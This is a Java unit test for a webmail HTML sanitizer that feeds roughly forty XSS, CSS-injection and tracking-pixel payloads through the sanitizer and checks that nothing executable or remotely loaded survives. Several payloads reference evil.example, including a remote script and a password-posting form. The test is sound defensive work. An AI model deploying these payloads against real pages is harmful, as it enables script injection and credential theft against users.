package org.flutemail.interfaces.webmail;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Locale;
import java.util.Map;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

class HtmlSanitizerTest {

    /** Hostile HTML as mail carries it; each must come out without anything that runs or loads. */
    static Stream<String> hostile() {
        return Stream.of(
                "<script>alert(1)</script><p>hi</p>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<body onload=alert(1)>text</body>",
                "<div onmouseover=\"alert(1)\">hover</div>",
                "<a href=\"javascript:alert(1)\">click</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
                "<a href=\"java&#x09;script:alert(1)\">click</a>",
                "<a href=\" &#14; javascript:alert(1)\">click</a>",
                "<a href=\"vbscript:msgbox(1)\">click</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">click</a>",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<img src=\"data:text/html,<script>alert(1)</script>\">",
                "<svg><script>alert(1)</script></svg>",
                "<svg onload=alert(1)><circle r=4/></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<object data=\"evil.swf\"></object><embed src=\"evil.swf\">",
                "<form action=\"https://evil.example/\"><input name=p type=password><button>go</button></form>",
                "<div style=\"width: expression(alert(1))\">x</div>",
                "<div style=\"background:url(javascript:alert(1))\">x</div>",
                "<div style=\"background-image: url('https://tracker.example/p.gif')\">x</div>",
                "<div style=\"behavior: url(x.htc)\">x</div>",
                "<div style=\"-moz-binding: url(x.xml#x)\">x</div>",
                "<div style=\"width: e\\78 pression(alert(1))\">x</div>",
                "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<base href=\"javascript:alert(1)//\">",
                "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
                "<p>caf\u00e9 \u4e2d\u6587</p><script>document.write('x')</script>",
                "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<a href=\"#\" onclick=\"alert(1)\">x</a><details open ontoggle=alert(1)>",
                "<video><source onerror=\"alert(1)\"></video><audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<img src=\"https://tracker.example/pixel.gif\" width=1 height=1>");
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void nothingThatRunsOrLoadsSurvives(String html) {
        String safe = HtmlSanitizer.sanitize(html, false).html();
        Document out = Jsoup.parseBodyFragment(safe);

        assertThat(out.select("script, iframe, object, embed, form, input, button, svg, math, style, link, meta, "
                + "base, video, audio, source, marquee, details, noscript")).as(safe).isEmpty();
        for (Element element : out.getAllElements()) {
            for (Attribute attribute : element.attributes()) {
                String name = attribute.getKey().toLowerCase(Locale.ROOT);
                String value = attribute.getValue().toLowerCase(Locale.ROOT).replaceAll("\\s", "");
                assertThat(name).as(safe).doesNotStartWith("on");
                assertThat(value).as(safe).doesNotContain("javascript:").doesNotContain("vbscript:")
                        .doesNotContain("expression(").doesNotContain("url(");
                if (name.equals("href") || name.equals("src") || name.equals("background")) {
                    assertThat(value).as(safe).doesNotStartWith("data:text").doesNotStartWith("data:image/svg");
                }
            }
        }
        assertThat(out.select("img[src^=http]")).as("remote images are blocked: " + safe).isEmpty();
    }

    @Test
    void formattingAndSafeLinksAreKept() {
        String safe = HtmlSanitizer.sanitize("<h1 style=\"color: red\">T</h1><p><b>bold</b> <a href=\"https://example.org/a\">"
                + "link</a> <a href=\"mailto:a@example.org\">mail</a></p><table border=1><tr><td bgcolor=#eee>c</td>"
                + "</tr></table><font color=blue face=Arial>f</font>", false).html();
        Document out = Jsoup.parseBodyFragment(safe);

        assertThat(out.select("h1").attr("style")).isEqualTo("color: red");
        assertThat(out.select("b").text()).isEqualTo("bold");
        assertThat(out.select("a[href=https://example.org/a]").attr("rel")).contains("noopener");
        assertThat(out.select("a[href=mailto:a@example.org]")).hasSize(1);
        assertThat(out.select("td[bgcolor]")).hasSize(1);
        assertThat(out.select("font[color=blue]")).hasSize(1);
    }

    @Test
    void remoteImagesAreCountedAndHeldBackUntilAllowed() {
        String html = "<img src=\"https://img.example/a.png\"><img src=\"http://img.example/b.png\">"
                + "<img src=\"data:image/png;base64,iVBORw0KGgo=\">";

        HtmlSanitizer.SafeHtml blocked = HtmlSanitizer.sanitize(html, false);
        HtmlSanitizer.SafeHtml allowed = HtmlSanitizer.sanitize(html, true);

        assertThat(blocked.blockedImages()).isEqualTo(2);
        Document out = Jsoup.parseBodyFragment(blocked.html());
        assertThat(out.select("img[data-blocked-src=https://img.example/a.png]")).hasSize(1);
        assertThat(out.select("img[src^=data:image/png]")).as("inline raster images are not remote").hasSize(1);
        assertThat(allowed.blockedImages()).isZero();
        assertThat(Jsoup.parseBodyFragment(allowed.html()).select("img[src^=http]")).hasSize(2);
    }

    @Test
    void textInAnyScriptSurvivesAsText() {
        String safe = HtmlSanitizer.sanitize("<p>\u60a8\u597d\uff0c\u4e16\u754c &lt;script&gt;</p>", false).html();

        assertThat(Jsoup.parseBodyFragment(safe).text()).isEqualTo("\u60a8\u597d\uff0c\u4e16\u754c <script>");
    }

    @Test
    void cidImagesPointAtTheMessagesOwnPartsOnly() {
        Map<String, String> parts = Map.of("logo@example.org", "/webmail/message/inline?section=2",
                "a b@x", "/webmail/message/inline?section=3");
        String html = "<img alt=a src=\"cid:logo@example.org\"><img alt=b src=\"CID:a%20b@x\">"
                + "<img alt=c src=\"cid:other@example.org\"><img alt=d src=\"cid:logo@example.org\" onerror=\"alert(1)\">";

        HtmlSanitizer.SafeHtml safe = HtmlSanitizer.sanitize(html, false, parts::get);

        Document out = Jsoup.parseBodyFragment(safe.html());
        assertThat(out.selectFirst("img[alt=a]").attr("src")).isEqualTo("/webmail/message/inline?section=2");
        assertThat(out.selectFirst("img[alt=b]").attr("src")).isEqualTo("/webmail/message/inline?section=3");
        assertThat(out.selectFirst("img[alt=c]").hasAttr("src")).as("no such part in this message").isFalse();
        assertThat(out.selectFirst("img[alt=d]").attributes().asList()).extracting(Attribute::getKey)
                .containsExactlyInAnyOrder("alt", "src");
        assertThat(safe.blockedImages()).as("inline parts are not remote images").isZero();
        assertThat(HtmlSanitizer.sanitize(html, true).html()).doesNotContain("cid:").doesNotContain("src");
    }
}
